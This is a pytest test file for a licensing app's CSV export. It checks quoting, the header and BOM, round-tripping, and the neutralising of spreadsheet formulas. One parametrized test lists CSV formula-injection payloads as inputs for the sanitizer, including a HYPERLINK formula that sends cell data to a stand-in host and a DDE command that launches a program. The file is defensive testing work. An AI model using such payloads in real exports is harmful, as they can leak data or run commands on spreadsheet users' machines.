"""A list as CSV: read back by another reader, and harmless in a spreadsheet."""

import csv
import io
from datetime import date
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from licensing.catalogue.records import LicenseType, Region
from licensing.http.csv_response import csv_bytes
from licensing.reports.model import ExpiryItem

ITEM: dict[str, Any] = {
    "customer_name": "Fabrikam",
    "customer_number": "C-1",
    "region": Region.ANZ,
    "product_name": "SmartSend",
    "license_type": LicenseType.ANNUAL,
    "end_date": date(2026, 11, 30),
    "days_left": 6,
    "expired": False,
    "customer_id": "c-1",
    "product_id": "p-1",
    "customer_product_id": "l-1",
}


def an_item(**fields: Any) -> ExpiryItem:
    return ExpiryItem(**ITEM | fields)


def read(content: bytes) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)]


def test_csv_response_writes_bom_header_and_quoted_rows() -> None:
    items = [
        an_item(),
        an_item(
            customer_name='Fab, "rik"\nam',
            days_left=-3,
            expired=True,
            feature_disable_date=date(2026, 12, 24),
            enabled=False,
        ),
    ]
    assert csv_bytes(ExpiryItem, items) == (
        b"\xef\xbb\xbf"
        b"Customer,Customer number,Region,Product,License type,Subscription end date,Feature disable date,Enabled,"
        b"Days left,Expired,Maintenance expired,Customer ID,Product ID,Customer product ID\r\n"
        b"Fabrikam,C-1,anz,SmartSend,annual,2026-11-30,,yes,6,no,no,c-1,p-1,l-1\r\n"
        b'"Fab, ""rik""\nam",C-1,anz,SmartSend,annual,2026-11-30,2026-12-24,no,-3,yes,no,c-1,p-1,l-1\r\n'
    )


def test_csv_response_without_items_writes_only_the_header() -> None:
    assert (csv_bytes(ExpiryItem, []).count(b"\r\n"), read(csv_bytes(ExpiryItem, []))) == (1, [])


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://planted.example?"&A1,"Fabrikam")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
    ],
)
def test_csv_response_prefixes_formula_like_name_with_apostrophe(name: str) -> None:
    (row,) = read(csv_bytes(ExpiryItem, [an_item(customer_name=name, product_name=name)]))
    assert row["Customer"] == row["Product"] == f"'{name}"


@pytest.mark.parametrize("name", ["Fabrikam = Co", "3-D", "'t Hof", "a@b", "Ærø — 株式会社", ""])
def test_csv_response_leaves_other_names_unchanged(name: str) -> None:
    (row,) = read(csv_bytes(ExpiryItem, [an_item(customer_name=name)]))
    assert row["Customer"] == name


@given(st.text(st.characters(codec="utf-8")), st.text(st.characters(codec="utf-8")))
def test_csv_response_round_trips_arbitrary_names(customer: str, product: str) -> None:
    (row,) = read(csv_bytes(ExpiryItem, [an_item(customer_name=customer, product_name=product)]))
    for held, name in ((row["Customer"], customer), (row["Product"], product)):
        assert held in (name, f"'{name}")
        assert not held.startswith(("=", "+", "-", "@", "\t", "\r"))
